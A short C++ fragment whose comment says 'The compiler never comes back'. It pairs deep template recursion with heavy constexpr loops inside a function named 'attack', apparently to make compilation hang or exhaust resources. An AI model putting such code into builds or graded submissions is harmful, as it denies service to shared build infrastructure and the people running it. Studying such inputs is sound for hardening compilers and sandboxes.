// The compiler never comes back.
namespace {
constexpr unsigned long spin(unsigned long n) {
  unsigned long sum = 0;
  for (unsigned long i = 0; i < n; ++i) sum += i * sum;
  return sum;
}
template <unsigned long N>
struct Level {
  static constexpr unsigned long value = spin(200000) + Level<N - 1>::value + N;
};
template <>
struct Level<0> {
  static constexpr unsigned long value = 0;
};
bool attack(const std::string&) {
  return Level<800>::value == 1;
}
}  // namespace
